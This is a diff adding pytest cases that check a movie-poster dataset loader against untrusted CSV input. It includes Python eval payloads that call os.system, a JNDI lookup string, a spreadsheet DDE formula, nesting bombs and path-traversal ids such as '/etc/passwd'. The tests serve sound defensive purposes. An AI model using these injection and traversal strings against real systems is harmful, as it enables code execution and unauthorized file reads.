@@ -177,3 +177,85 @@ def test_blank_cells_are_taken_as_zero_and_said(make):
 def test_too_few_posters_to_train_and_choose_are_said(make):
     with pytest.raises(DataError, match="too few can be used"):
         make("Id,Genre\np0,Drama\np1,Comedy\n", {"p0.jpg": 1, "p1.jpg": 2}).check_parts()
+
+
+# Tables from strangers
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "__import__('os').system('touch evil')",
+        "[__import__('os').system('touch evil')]",
+        "[open('evil', 'w')]",
+        "(lambda: open('evil', 'w'))()",
+        "${jndi:ldap://evil}",
+        "=cmd|' /C calc'!A0",
+        "[" * 9_000,
+        "[" + "-" * 200_000 + "1]",
+    ],
+)
+def test_code_in_a_genre_cell_is_data(make, cell, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    quoted = cell.replace('"', '""')
+    data = make(
+        "Id,Genre\n" + "\n".join(ROWS) + f'\np39x,"{quoted}"\n',
+        {"p39x.jpg": 1, "p1.jpg": 2, "p2.jpg": 3},
+    )
+    assert not (tmp_path / "evil").exists()
+    row = data.posters[data.posters["id"] == "p39x"].iloc[0]
+    named = [genre for genre in data.genres if row[genre]]
+    unread = findings(data)["genre cells that cannot be read"]
+    assert (named and not unread) or (row["unlabelled"] and len(unread) == 1)
+
+
+def test_ids_that_lead_out_of_the_folder_are_refused(make, tmp_path):
+    (tmp_path / "secret.jpg").write_bytes(b"picture")
+    (tmp_path / "Images").mkdir()
+    (tmp_path / "Images" / ".hidden.jpg").write_bytes(b"picture")
+    bad = ["../secret.jpg", "../secret", "/etc/passwd", "..\\secret.jpg", ".hidden", ".hidden.jpg"]
+    bad += ["Images/../p1", "other/p1", "Images/Images/p1", "Images/.hidden.jpg", "p1/", "."]
+    rows = [f"{name},Drama" for name in bad]
+    data = make(
+        "Id,Genre\n" + "\n".join([*ROWS, *rows, "Images/extra.jpg,War"]),
+        {**{f"p{i}.jpg": i for i in range(40)}, "extra.jpg": 77},
+    )
+    refused = "ids that lead out of the folder or are hidden"
+    assert findings(data)[refused] == bad
+    assert "Images/extra.jpg" in data.posters["id"].tolist() and len(data.posters) == 41
+    assert not set(bad) & set(data.posters["id"]) and not findings(data)["rows without a picture"]
+
+
+def test_two_columns_of_one_name_are_refused(make):
+    for header in ("Id,Genre,genre", "Id,Drama,Comedy,Drama", '"Id","id ",Genre'):
+        with pytest.raises(DataError, match="two columns named"):
+            make(header + "\np0,1,0,1\n")
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"])
+def test_encodings_and_line_ends_give_the_same_table(make, encoding):
+    csv = "Id,Genre,Title\r\n" + "".join(
+        f'p{i},{"Comédie" if i % 2 else "Drama"},"a title\r\nof ""two"" lines, {i}"\r\n'
+        for i in range(9)
+    )
+    text = "\ufeff" + csv if encoding == "utf-16-le" else csv
+    data = make(text, {f"p{i}.jpg": i for i in range(9)}, encoding)
+    assert data.genres == ("Comédie", "Drama")
+    assert data.labels(data.posters)[:, 0].tolist() == [0, 1, 0, 1, 0, 1, 0, 1, 0]
+
+
+def test_a_thousand_columns_and_rows_that_end_early(make):
+    header = ",".join(["Id", "Genre", *(f"note {i}" for i in range(998))])
+    rows = [f"p{i},{'Drama' if i % 2 else 'War'}" + ",x" * 998 for i in range(8)]
+    data = make("\n".join([header, *rows, "p8", ""]), {f"p{i}.jpg": i for i in range(9)})
+    assert data.genres == ("Drama", "War") and len(data.posters) == 9
+    assert data.posters["unlabelled"].tolist() == [False] * 8 + [True]
+
+
+def test_one_row_is_too_few_and_said(make):
+    data = make("Id,Drama,War\np0,1,0\n", {"p0.jpg": 1})
+    assert len(data.posters) == 1
+    with pytest.raises(DataError, match="too few"):
+        data.check_parts()
+    with pytest.raises(DataError, match="gives 1 genres"):
+        make("Id,Genre\np0,Drama\n")
